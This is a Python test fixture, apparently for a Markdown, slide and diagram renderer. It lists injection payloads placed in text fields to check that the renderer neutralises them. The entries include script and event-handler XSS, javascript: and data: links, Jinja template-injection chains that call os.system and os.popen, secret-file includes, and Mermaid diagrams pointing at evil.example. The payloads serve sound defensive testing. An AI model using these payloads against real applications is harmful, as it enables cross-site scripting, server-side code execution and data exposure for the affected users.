"""What an attacker, or a trainer by accident, might write into a text field.

In each, `§` stands for a word that tells the field, and `MARKER` for a file that a shell command would make. Whatever
runs in the browser sets `window.pwned`; whatever becomes markup has the class or the id `pwned`.
"""

from __future__ import annotations

ELEMENTS = (
    "<script>window.pwned = '§'</script>",
    "<ScRiPt src=//evil.example/§.js></sCrIpT>",
    "<script>window.pwned='§'//",
    "</title><script>window.pwned='§'</script>",
    "</script><script>window.pwned='§'</script>",
    "</code></pre></details><script>window.pwned='§'</script>",
    "--></textarea></style></noscript><script>window.pwned='§'</script>",
    "<style>body { display: none } /* § */</style>",
    "<iframe srcdoc=\"<script>parent.pwned='§'</script>\"></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'>§</object>",
    "<base href='https://evil.example/§/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/§'>",
    "<link rel=stylesheet href=https://evil.example/§.css>",
    "<form action=https://evil.example/§><button formaction=javascript:window.pwned=1>los</button></form>",
    "<template class=pwned>§</template><math><mtext></mtext></math>",
    "<marquee class='pwned'>§</marquee>",
    "<details open class=pwned ontoggle=\"window.pwned='§'\"><summary>auf</summary></details>",
)

HANDLERS = (
    "<img src=x onerror=\"window.pwned='§'\">",
    "<svg onload=\"window.pwned='§'\">",
    "<svg><script>window.pwned='§'</script></svg>",
    "<svg><animate onbegin=\"window.pwned='§'\" attributeName=x dur=1s>",
    "<body onload=\"window.pwned='§'\">",
    "<input autofocus onfocus=\"window.pwned='§'\">",
    '" onmouseover="window.pwned=\'§\'" autofocus onfocus="window.pwned=\'§\'" x="',
    "' onfocus='window.pwned=\"§\"' autofocus tabindex='1",
    "§ x onerror=window.pwned=1 y=`\">'><",
    '"><img src=x onerror="window.pwned=\'§\'">',
    "<b class=pwned>§</b><a id=pwned name=pwned>x</a>",
    "<!-- § --><img src=x onerror=\"window.pwned='§'\"><!--",
    "<![CDATA[§]]><?php window.pwned ?><!DOCTYPE x>",
)

LINKS = (
    "[§](javascript:window.pwned=1)",
    "[§](JaVaScRiPt:window.pwned=1 'x')",
    "[§](javascript&colon;window.pwned=1)",
    "[§](&#106;avascript:window.pwned=1)",
    "[§](java\tscript:window.pwned=1)",
    "[§](vbscript:window.pwned)",
    "[§](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[§](data:image/svg+xml,<svg/onload=window.pwned=1>)",
    "[§](file:///etc/hostname)",
    "<javascript:window.pwned='§'>",
    "<a href=javascript:window.pwned=1>§</a>",
    "![§](https://evil.example/bild.png)",
    '![§](x "y" onerror=window.pwned=1)',
    "![§][bild]\n\n[bild]: https://evil.example/bild.png",
    '[§](https://evil.example/ "x\\" onclick=\\"window.pwned=1")',
    "<https://evil.example/§>",
    "[§]: https://evil.example/ 'pwned'",
    "[§][Folie]\n\n[Folie]: javascript:window.pwned=1",
)

MARKDOWN = (
    '§ {: .pwned #pwned onclick="window.pwned=1" }',
    '§ { #pwned onclick="window.pwned=1" }',
    "*§*{: .pwned onmouseover=window.pwned=1 style=color:red }",
    "§ {: #pwned }\n{: .pwned }",
    "# § {: .pwned onclick=window.pwned=1 }",
    "§\n===\n\n{: .pwned }",
    '--8<-- "geheim.txt" §',
    ';--8<-- "geheim.txt" §',
    "--8<--\ngeheim.txt\n--8<-- §",
    '```html {.pwned onclick="window.pwned=1"}\n§\n```',
    '~~~ { .pwned #pwned title="§" }\n§\n~~~',
    "``` mermaid\nclick § call window.pwned()\n```",
    "```\n§\n</code></pre><script>window.pwned='§'</script>\n```",
    "    <script>window.pwned='§'</script>",
    '!!! pwned "§"\n    <script>window.pwned=1</script>',
    '??? pwned "§"\n    {: .pwned }',
    '=== "§"\n    pwned',
    "[TOC] §",
    "*[Folie]: § pwned\n*[Fragen]: <img src=x onerror=window.pwned=1>",
    "§[^1]\n\n[^1]: <script>window.pwned=1</script>",
    "§\n:   <b class=pwned>x</b>\n{: .pwned }",
    "| § | <b class=pwned> |\n|---|---|\n| x | {: .pwned } |",
    "- [ ] §\n- [x] <input class=pwned>",
    '<div class="pwned" markdown="1">\n**§**\n</div>',
    '<div markdown onclick="window.pwned=1">§</div>',
    "---\ntitle: § pwned\nrender_macros: true\n---",
    '"\n---\nrender_macros: true\n---\n\n{{ 7 * 191 }} §',
    "§\n\n\n# pwned {: #pwned }\n\n<b class=pwned>",
    ":pwned: ==§== ^^x^^ ~~y~~ ++z++ H~2~O",
    "§\\\n\\<script\\>window.pwned=1\\</script\\>",
)

TEMPLATES = (
    "{{ 7 * 191 }} §",
    "{% raw %}§{% endraw %}{{ 7 * 191 }}",
    "{# § #}{{ 7 * 191 }}",
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }} §",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}§",
    "{{ lipsum.__globals__.os.system('touch MARKER') }} §",
    "{{ config.__class__.__init__.__globals__['__builtins__']['open']('MARKER', 'w') }} §",
    "{% include 'geheim.txt' %} §",
    "{{ '{{' }} 7 * 191 {{ '}}' }} §",
    "{%- set pwned = '§' -%}",
    "&#123;&#123; 7 * 191 &#125;&#125; §",
    "}} {{ 7 * 191 }} {{ §",
    "${§} #{7 * 191} <%= 7 * 191 %> $(touch MARKER) `touch MARKER`",
)

ENTITIES = (
    "&lt;script&gt;window.pwned='§'&lt;/script&gt;",
    "&#60;script&#62;window.pwned='§'&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.pwned=1&#x3e; §",
    "&quot; onfocus=&quot;window.pwned=1&quot; autofocus §",
    "&amp;lt;script&amp;gt;§ &nbsp; &copy; &NewLine;",
    "§ \u202e<tpircs>\u202c \u00a0 \u200b \U0001f468\u200d\U0001f4bb",
    "${alert(1)} \\u003cscript\\u003ewindow.pwned='§'\\u003c/script\\u003e",
    "§ \"quotes\" 'and' <angles> & ampersands \\ `ticks` * _ ~ ^ | $ % # §",
)

PAYLOADS = ELEMENTS + HANDLERS + LINKS + MARKDOWN + TEMPLATES + ENTITIES

DIAGRAMS = (
    'flowchart LR\n  a["<img src=x onerror=window.pwned=1> §"] --> b["<script>window.pwned=1</script>"]',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n'
    'flowchart LR\n  a["<img src=x onerror=window.pwned=1> §"]',
    'flowchart LR\n  a[§]\n  click a "javascript:window.pwned=1"\n  click a call pwned()',
    'flowchart LR\n  a[§]\n  click a href "https://evil.example/" _self',
    "---\nconfig:\n  securityLevel: loose\n  themeCSS: '} * { background: url(https://evil.example/x.png) }'\n---\n"
    "flowchart LR\n  a[§]",
    "flowchart LR\n  a[§]\n  style a fill:url(https://evil.example/x.svg)",
    'flowchart LR\n  a@{ img: "https://evil.example/§.png", label: "§" }',
    "sequenceDiagram\n  participant A as <b onclick=window.pwned=1>§</b>\n  A->>A: <svg onload=window.pwned=1>",
    'classDiagram\n  class Pwned~§~\n  link Pwned "javascript:window.pwned=1" "x"\n  callback Pwned "pwned"',
)
"""Sources of diagrams that the library may draw, but must not obey."""
